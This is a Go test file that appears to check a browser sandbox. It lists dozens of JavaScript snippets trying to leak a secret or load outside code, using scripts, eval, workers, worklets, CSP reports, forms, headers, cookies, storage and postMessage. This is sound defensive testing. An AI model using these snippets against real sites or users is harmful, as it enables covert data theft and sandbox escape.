package e2e

var leakScripts = []leakChannel{
	{name: "script", places: fromPage, try: `make("script", { src: at.url("js") }, document.head)`},
	{name: "script-module", places: fromPage, try: `make("script", { type: "module", src: at.url("js") }, document.head)`},
	{name: "script-inline", places: fromPage, try: `const s = document.createElement("script"); s.textContent = "fetch('" + at.url("json") + "')"; document.head.append(s)`},
	{name: "script-inline-text-node", places: fromPage, try: `const s = document.createElement("script"); s.append("fetch('" + at.url("json") + "')"); document.head.append(s)`},
	{name: "script-svg", places: fromPage, try: `make("svg:script", { href: at.url("js") }, make("svg:svg"))`},
	{name: "import", places: fromBoth, try: `import(at.url("js")).catch(() => {})`},
	{name: "import-data", places: fromBoth, try: `import("data:text/javascript," + encodeURIComponent("fetch('" + at.url("json") + "')")).catch(() => {})`},
	{name: "importmap", places: fromPage, try: `const s = document.createElement("script"); s.type = "importmap"; s.textContent = JSON.stringify({ imports: { ["leak-" + at.id]: at.url("js") } }); document.head.append(s); import("leak-" + at.id).catch(() => {})`},
	{name: "importscripts", places: fromWorker, try: `importScripts(at.url("js"))`},
	{name: "eval", places: fromBoth, try: `eval("fetch('" + at.url("json") + "').catch(() => {})")`},
	{name: "function", places: fromBoth, try: `new Function("fetch('" + at.url("json") + "').catch(() => {})")()`},
	{name: "timer-text", places: fromBoth, try: `setTimeout("fetch('" + at.url("json") + "').catch(() => {})")`},
	{name: "event-attribute", places: fromPage, try: `make("div", { onclick: "fetch('" + at.url("json") + "')" }).click()`},
	{name: "javascript-link", places: fromPage, try: `make("a", { href: "javascript:void fetch('" + at.url("json") + "')" }).click()`},
	{name: "json-module", places: fromBoth, try: `import(at.url("json"), { with: { type: "json" } }).catch(() => {})`},
	{name: "css-module", places: fromPage, try: `import(at.url("css"), { with: { type: "css" } }).catch(() => {})`},
	{name: "webassembly-stream", places: fromBoth, try: `WebAssembly.instantiateStreaming(fetch(at.url("wasm"))).catch(() => {})`},
}

const leakBlobScript = `URL.createObjectURL(new Blob(["fetch('" + at.url("json") + "').catch(() => {})"], { type: "text/javascript" }))`

var leakWorkers = []leakChannel{
	{name: "worker", places: fromBoth, mute: "scripts of workers must be of the same origin", try: `new Worker(at.url("js"))`},
	{name: "worker-of-the-page", places: fromPage, only: "own", try: `new Worker(at.url("worker"))`},
	{name: "worker-blob", places: fromBoth, try: `new Worker(` + leakBlobScript + `)`},
	{name: "worker-data", places: fromBoth, try: `new Worker("data:text/javascript," + encodeURIComponent("fetch('" + at.url("json") + "')"))`},
	{name: "shared-worker-blob", places: fromPage, try: `new SharedWorker(` + leakBlobScript + `)`},
	{name: "service-worker", places: fromPage, mute: "scripts of workers must be of the same origin", try: `navigator.serviceWorker.register(at.url("worker")).catch(() => {})`},
	{name: "worklet-paint", places: fromPage, try: `need(CSS.paintWorklet).addModule(at.url("js")).catch(() => {})`},
	{name: "worklet-audio", places: fromPage, try: `new AudioContext().audioWorklet.addModule(at.url("js")).catch(() => {})`},
	{name: "worklet-storage", places: fromPage, try: `need(globalThis.sharedStorage).worklet.addModule(at.url("js", "https")).catch(() => {})`},
}

var leakFeatures = []leakChannel{
	{name: "report-uri", places: fromPage, mute: "browsers ignore it in a page's own policy", try: `make("meta", { "http-equiv": "Content-Security-Policy", content: "frame-src 'none'; report-uri " + at.url("json") }, document.head); make("iframe", { src: "data:text/html,x" })`},
	{name: "attribution-source", places: fromPage, mute: "browsers have dropped it", try: `need("attributionSrc" in HTMLImageElement.prototype); make("img", { attributionsrc: at.url("json", "https") })`},
	{name: "topics", places: fromPage, try: `need(document.browsingTopics); fetch(at.url("json", "https"), { browsingTopics: true }).catch(() => {})`},
	{name: "shared-storage-image", places: fromPage, try: `make("img", { sharedstoragewritable: "", src: at.url("svg") })`},
	{name: "fedcm", places: fromPage, only: "out", try: `navigator.credentials.get({ identity: { providers: [{ configURL: at.url("json", "https"), clientId: at.secret, nonce: "x" }] } }).catch((e) => { if (e.name === "NotAllowedError") throw e })`},
	{name: "payment", places: fromPage, only: "out", try: `const r = new PaymentRequest([{ supportedMethods: at.url("json", "https") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }); r.canMakePayment().catch(() => {})`},
	{name: "passkey-related-origin", places: fromPage, only: "out", mute: "asks nobody where there is no authenticator", try: `navigator.credentials.get({ publicKey: { rpId: at.host, challenge: new Uint8Array(16) } }).catch((e) => { if (e.name === "NotAllowedError") throw e })`},
	{name: "share", places: fromPage, only: "out", try: `await need(navigator.share).call(navigator, { url: at.url("html", "https") })`},
	{name: "notification-icon", places: fromPage, mute: "nobody gave the permission", try: `new Notification("x", { icon: at.url("svg") })`},
	{name: "push", places: fromPage, only: "out", try: `need(globalThis.PushManager); const r = await navigator.serviceWorker.getRegistration(); await need(r).pushManager.subscribe()`},
	{name: "background-fetch", places: fromPage, try: `need(globalThis.BackgroundFetchManager); const r = await navigator.serviceWorker.getRegistration(); await need(r).backgroundFetch.fetch("x", at.url("json"))`},
	{name: "presentation", places: fromPage, only: "out", mute: "no screen to present on", try: `await new (need(globalThis.PresentationRequest))([at.url("html", "https")]).getAvailability()`},
}

// leakHome reaches our own server in spite of the seal, some of it by design: a page
// has to be able to lead to other pages, and the worker to load its engine. Nobody
// but the operator gets to see it.
var leakHome = []leakChannel{
	{name: "listed-page", places: fromPage, leaves: true, only: homeward, try: `location.href = "/learn"`},
	{name: "cookie", places: fromPage, leaves: true, only: homeward, try: `document.cookie = "leak=" + at.id + "." + at.secret; location.href = at.paths.html`},
	{name: "referrer", places: fromPage, leaves: true, only: homeward, try: `history.replaceState(null, "", "/?leak=" + at.id + "." + at.secret); make("a", { href: at.paths.html, referrerpolicy: "unsafe-url" }).click()`},
	{name: "server-form", places: fromPage, leaves: true, only: homeward, try: `const f = make("form", { action: "/", method: "post" }); make("input", { name: "leak", value: at.id + "." + at.secret }, f); f.submit()`},
	{name: "engine-post", places: fromWorker, only: homeward, try: `fetch(at.paths.wasm, { method: "POST", body: "leak=" + at.id + "." + at.secret }).catch(() => {})`},
	{name: "engine-header", places: fromWorker, only: homeward, try: `fetch(at.paths.wasm, { cache: "no-store", headers: { "X-Leak": "leak=" + at.id + "." + at.secret } }).catch(() => {})`},
}

// leakRest sends nothing: what it keeps waits in the browser or on the machine for
// somebody who can look there.
var leakRest = []leakChannel{
	{name: "keep-cookie", places: fromPage, only: resting, try: `document.cookie = "kept=" + at.secret; if (document.cookie.includes(at.secret)) return "kept"`},
	{name: "keep-local-storage", places: fromPage, only: resting, try: `localStorage.leak = at.secret; if (localStorage.leak) return "kept"`},
	{name: "keep-session-storage", places: fromPage, only: resting, try: `sessionStorage.leak = at.secret; if (sessionStorage.leak) return "kept"`},
	{name: "keep-database", places: fromBoth, only: resting, try: `await new Promise((ok, no) => { const r = indexedDB.open(at.secret); r.onsuccess = ok; r.onerror = no; }); return "kept"`},
	{name: "keep-cache", places: fromBoth, only: resting, try: `const c = await caches.open("leak"); await c.put("/leak", new Response(at.secret)); if (await c.match("/leak")) return "kept"`},
	{name: "keep-file", places: fromBoth, only: resting, try: `const d = await navigator.storage.getDirectory(); await d.getFileHandle(at.secret, { create: true }); return "kept"`},
	{name: "keep-channel", places: fromBoth, only: resting, try: `const a = new BroadcastChannel("leak"), b = new BroadcastChannel("leak"); const got = new Promise((ok) => (b.onmessage = ok)); a.postMessage(at.secret); await got; return "kept"`},
	{name: "keep-history", places: fromPage, only: resting, try: `const was = location.href; history.pushState(at.secret, "", "#" + at.secret); const kept = location.hash; history.replaceState(null, "", was); if (kept) return "kept"`},
	{name: "keep-window-name", places: fromPage, only: resting, try: `globalThis.name = at.secret; if (globalThis.name === at.secret) return "kept"`},
	{name: "keep-blob-download", places: fromPage, only: resting, try: `make("a", { href: URL.createObjectURL(new Blob([at.secret])), download: "leak.txt" }).click(); return "kept"`},
	{name: "keep-clipboard", places: fromPage, only: resting, try: `const a = make("textarea"); a.value = at.secret; a.select(); if (document.execCommand("copy")) return "kept"`},
	{name: "opener", places: fromPage, only: resting, try: `(opener ?? need(null)).postMessage(at.secret, "*"); return "kept"`},
	{name: "parent", places: fromPage, only: resting, try: `(parent === self ? need(null) : parent).postMessage(at.secret, "*"); return "kept"`},
}
